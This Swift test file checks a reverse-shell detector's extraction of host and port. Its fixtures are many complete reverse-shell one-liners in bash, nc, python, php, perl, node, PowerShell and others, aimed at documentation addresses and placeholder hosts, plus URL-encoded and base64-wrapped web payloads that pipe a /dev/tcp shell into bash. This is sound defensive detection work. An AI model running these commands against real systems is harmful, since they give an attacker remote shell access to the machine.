import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// Which host and which port, where colons, plus signs or plain words make it hard to tell.
@Suite struct ReverseShellEndpointTests {
  /// The colons of an IPv6 address part no port from it, and its brackets are not told.
  @Test(arguments: [
    "python3 -c 'import socket,os;s=socket.create_connection((\"2001:db8::5\",4444));os.dup2(s.fileno(),0);os.system(\"sh\")'",
    "python3 -c 'import socket,os,pty;s=socket.socket(10);s.connect((\"2001:db8::5\",4444,0,0));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    "python3 -c 'import socket,os,pty;h=\"2001:db8::5\";s=socket.socket(10);s.connect((h,4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    "ruby -rsocket -e 'f=TCPSocket.open(\"2001:db8::5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
    "node -e 'require(\"net\").connect(4444,\"2001:db8::5\",function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
    "node -e 'require(\"net\").connect({port:4444,host:\"2001:db8::5\"},function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
    "Process p=new ProcessBuilder(\"/bin/sh\").start();Socket s=new Socket(\"2001:db8::5\",4444);s.getInputStream();",
    "lua -e 'require(\"socket\");t=socket.tcp();t:connect(\"2001:db8::5\",\"4444\");os.execute(\"/bin/sh -i <&3 >&3\")'",
    "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('2001:db8::5',4444);$s=$c.GetStream();iex $d\"",
    "php -r '$s=fsockopen(\"[2001:db8::5]\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "php -r '$s=fsockopen(\"tcp://[2001:db8::5]\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "php -r '$s=stream_socket_client(\"tcp://[2001:db8::5]:4444\");exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "perl -MIO::Socket -e '$c=IO::Socket::INET6->new(PeerAddr=>\"[2001:db8::5]:4444\");STDIN->fdopen($c,r);exec(\"sh\")'",
    "perl -MIO::Socket -e '$c=IO::Socket::INET6->new(PeerAddr=>\"2001:db8::5\",PeerPort=>4444);STDIN->fdopen($c,r);exec(\"sh\")'",
    "c,_:=net.Dial(\"tcp\",\"[2001:db8::5]:4444\");p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()",
    "socat TCP6:[2001:db8::5]:4444 EXEC:/bin/sh", "bash -i >& /dev/tcp/[2001:db8::5]/4444 0>&1",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect [2001:db8::5]:4444 > /tmp/s",
    "bash -i >& /dev/tcp/2001:db8::5/4444 0>&1", "nc -6 2001:db8::5 4444 -e /bin/sh",
  ])
  func anAddressKeepsItsColons(text: String) {
    let found = shells(text)
    #expect(found.count == 1)
    #expect(found.first?.host == "2001:db8::5")
    #expect(found.first?.port == 4444)
  }

  @Test(arguments: [
    ("[2001:db8::5]:4444", "2001:db8::5", 4444), ("::ffff:192.0.2.7:4444", "::ffff:192.0.2.7", 4444),
    ("[fe80::1%eth0]:4444", "fe80::1%eth0", 4444), ("tcp://192.0.2.7:4444", "192.0.2.7", 4444),
    ("kali:4444,verify=0", "kali", 4444),
  ])
  func aPairHasAPort(text: String, host: String, port: Int) {
    #expect(text.withView { Endpoint.pair($0) } == Endpoint(host: host, port: port))
  }

  @Test(arguments: [
    "2001:db8::5", "::1", "[2001:db8::5]", "::ffff:192.0.2.7", "fe80::1%eth0", "[2001:db8::5", "[]", "[",
  ])
  func anAddressAloneIsNoPair(text: String) { #expect(text.withView { Endpoint.pair($0)?.host } == nil) }

  /// A plus sign of Base64 that the request encoded stays one, however the blanks are written.
  @Test(arguments: ["%2B", "%2b", "%252B"], ["%20", "+", "%2520"])
  func base64KeepsItsPlusSigns(plus: String, blank: String) {
    let digits = "YmFzaCAtaSA\(plus)JiAvZGV2L3RjcC8yMDMuMC4xMTMuNzcvNDQ0NCAwPiYx"
    for text in [
      "GET /?c=echo\(blank)\(digits)%7Cbase64\(blank)-d%7Cbash",
      "GET /?c=echo\(blank)%22\(digits)%22%7Cbase64\(blank)-d%7Cbash HTTP/1.1",
      "GET /?cd\(blank)/tmp;echo\(blank)\(digits)|base64\(blank)-d|bash HTTP/1.1",
      "GET /?c=%7Becho,\(digits)%7D%7C%7Bbase64,-d%7D%7Cbash HTTP/1.1",
    ] {
      let found = shells(text).first
      #expect(found?.technique == "dev_tcp", "\(text)")
      #expect(found?.host == "203.0.113.77", "\(text)")
      #expect(found?.port == 4444, "\(text)")
    }
  }

  /// A form within a form writes its blanks as encoded plus signs.
  @Test(arguments: [
    "GET /?c=bash+-i+%3E%26+/dev/tcp/203.0.113.77/4444+0%3E%261",
    "GET /?c=bash%2B-i%2B%3E%26%2B/dev/tcp/203.0.113.77/4444%2B0%3E%261 HTTP/1.1",
    "GET /x?d=1&c=nc%2B-e%2B/bin/sh%2B203.0.113.77%2B4444",
  ])
  func aFormsPlusSignsAreBlanks(text: String) {
    #expect(shells(text).first?.host == "203.0.113.77")
    #expect(shells(text).first?.port == 4444)
  }

  /// Words about netcat name no host.
  @Test(arguments: [
    "echo \"nc -e /bin/sh is disabled in this build\" >> NOTES", "netcat with -e /bin/sh option",
    "ncat with -e /bin/sh", "ncat -e /bin/sh here",
    "do not use nc -e /bin/sh here", "we saw nc -e /bin/bash on the host", "nc -c bash doesn't work.",
    "nc -e /bin/sh was blocked by policy 42 times", "ncat --exec /bin/sh option is off", "run nc -e /bin/sh over ssh",
  ])
  func proseIsNoShell(text: String) { #expect(shells(text).isEmpty) }

  @Test(
    arguments: [
      ("ncat kali -e /bin/sh", "kali", 31337), ("nc -e /bin/sh to 192.0.2.1 on port 4444", "192.0.2.1", 4444),
      ("nc -e /bin/sh host 4444", "host", 4444), ("nc host 4444 -e sh", "host", 4444),
      ("nc kali https -e sh", "kali", 443),
      ("H=kali; P=4444; nc -e /bin/sh $H $P", "kali", 4444), ("nc -e /bin/sh evil.example", "evil.example", nil),
      ("nc -e /bin/sh $H $P", nil, nil), ("nc kali $P -e /bin/sh", "kali", nil),
      ("os.system(\"nc -e /bin/sh \" + host + \" \" + port)", nil, nil),
    ] as [(String, String?, Int?)])
  func aNamedHostIsAShell(text: String, host: String?, port: Int?) {
    let found = shells(text)
    #expect(found.count == 1)
    #expect(found.first?.host == host)
    #expect(found.first?.port == port)
  }
}
